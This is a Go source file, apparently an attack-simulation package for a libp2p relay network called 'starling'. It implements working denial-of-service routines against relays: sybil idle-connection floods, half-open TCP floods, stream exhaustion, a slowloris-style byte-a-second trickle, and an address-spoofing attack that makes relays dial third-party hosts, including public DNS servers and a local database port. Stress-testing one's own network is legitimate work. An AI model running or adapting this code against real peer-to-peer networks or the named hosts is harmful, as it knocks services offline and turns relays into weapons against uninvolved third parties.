package attack

import (
	"context"
	"net"
	"sync"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/multiformats/go-multiaddr"

	"starling/p2p/wire"
)

// idle takes places at every relay: connections that stay and do nothing, each
// of a new identity, ten a second.
func idle(ctx context.Context, m *machine) error {
	return m.crowd(ctx, 10, func(i int) {
		h, err := m.host()
		if err != nil {
			return
		}
		within(ctx, func(ctx context.Context) { h.Connect(ctx, m.relays[i%len(m.relays)]) })
	})
}

// halfOpen opens TCP connections, a hundred a second, and says nothing on them.
func halfOpen(ctx context.Context, m *machine) error {
	var mu sync.Mutex
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	return m.crowd(ctx, 100, func(i int) {
		relay := m.relays[i%len(m.relays)]
		within(ctx, func(ctx context.Context) {
			if c, err := m.dial(ctx, relay.Addrs[0]); err == nil {
				mu.Lock()
				open = append(open, c)
				mu.Unlock()
			}
		})
	})
}

// streams opens a connection to every relay and on each 300 streams a second, of
// a byte each, which it does not close.
func streams(ctx context.Context, m *machine) error {
	return m.each(ctx, func(ctx context.Context, relay peer.AddrInfo) error {
		h, err := m.host()
		if err != nil {
			return err
		}
		return m.paced(ctx, 300, func(int) {
			within(ctx, func(ctx context.Context) {
				if h.Connect(ctx, relay) != nil {
					return
				}
				if s, err := h.NewStream(ctx, relay.ID, wire.FrameProtocol); err == nil {
					s.Write([]byte{0})
				}
			})
		})
	})
}

// slow begins a frame on four links to every relay and goes on at a byte a second.
func slow(ctx context.Context, m *machine) error {
	const links = 4
	return m.each(ctx, func(ctx context.Context, relay peer.AddrInfo) error {
		h, err := m.host()
		if err != nil {
			return err
		}
		var open [links]network.Stream
		return m.paced(ctx, links, func(i int) {
			within(ctx, func(ctx context.Context) {
				s := &open[i%links]
				if *s == nil && h.Connect(ctx, relay) == nil {
					*s, _ = h.NewStream(ctx, relay.ID, wire.FrameProtocol)
				}
				if *s == nil {
					return
				}
				(*s).SetWriteDeadline(time.Now().Add(time.Second))
				if _, err := (*s).Write([]byte{byte(wire.TypePacket)}); err != nil {
					(*s).Reset()
					*s = nil
				}
			})
		})
	})
}

// pointer tells every relay by identify that it listens at the addresses of third
// parties, and waits to be dialled there.
func pointer(ctx context.Context, m *machine) error {
	victims := []multiaddr.Multiaddr{
		multiaddr.StringCast("/ip4/9.9.9.9/tcp/80"),
		multiaddr.StringCast("/ip4/8.8.8.8/tcp/22"),
		multiaddr.StringCast("/ip4/127.0.0.1/tcp/5432"),
	}
	h, err := m.host(libp2p.AddrsFactory(func([]multiaddr.Multiaddr) []multiaddr.Multiaddr { return victims }))
	if err != nil {
		return err
	}
	return m.paced(ctx, 1, func(i int) {
		relay := m.relays[i%len(m.relays)]
		within(ctx, func(ctx context.Context) {
			if h.Connect(ctx, relay) == nil && i >= len(m.relays) {
				h.Network().ClosePeer(relay.ID) // and now they may look for us
			}
		})
	})
}
